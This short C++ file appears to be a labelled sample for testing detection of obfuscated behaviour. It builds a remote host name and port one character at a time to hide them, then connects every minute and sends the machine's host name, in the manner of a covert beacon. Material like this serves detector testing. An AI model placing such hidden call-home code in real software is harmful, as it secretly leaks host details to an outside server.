// blind-expect: behavior.obfuscated-execution
// Status beacon that connects to its coordination server and announces the local host name every minute.
#include <netdb.h>
#include <sys/socket.h>
#include <unistd.h>
#include <cstring>
#include <iostream>
#include <string>

namespace {

std::string coordinator() {
    std::string h;
    h += 'n'; h += 'o'; h += 'd'; h += 'e'; h += '7'; h += '.';
    h += 'x'; h += 'f'; h += 'r'; h += '-'; h += 'r'; h += 'e';
    h += 'l'; h += 'a'; h += 'y'; h += '.'; h += 'n'; h += 'e'; h += 't';
    return h;
}

std::string port() {
    std::string p;
    p.push_back('4');
    p.push_back('4');
    p.push_back('3');
    p.push_back('1');
    return p;
}

int dial(const std::string &host, const std::string &svc) {
    addrinfo hints{}, *res = nullptr;
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    if (getaddrinfo(host.c_str(), svc.c_str(), &hints, &res) != 0) return -1;
    int fd = -1;
    for (addrinfo *rp = res; rp; rp = rp->ai_next) {
        fd = socket(rp->ai_family, rp->ai_socktype, rp->ai_protocol);
        if (fd < 0) continue;
        if (connect(fd, rp->ai_addr, rp->ai_addrlen) == 0) break;
        close(fd);
        fd = -1;
    }
    freeaddrinfo(res);
    return fd;
}

} // namespace

int main() {
    char name[256] = {0};
    gethostname(name, sizeof name - 1);
    for (int round = 0; round < 60; ++round) {
        int fd = dial(coordinator(), port());
        if (fd >= 0) {
            std::string msg = "HELLO " + std::string(name) + " " + std::to_string(round) + "\n";
            send(fd, msg.data(), msg.size(), 0);
            close(fd);
        } else {
            std::cerr << "coordinator unreachable\n";
        }
        sleep(60);
    }
    return 0;
}
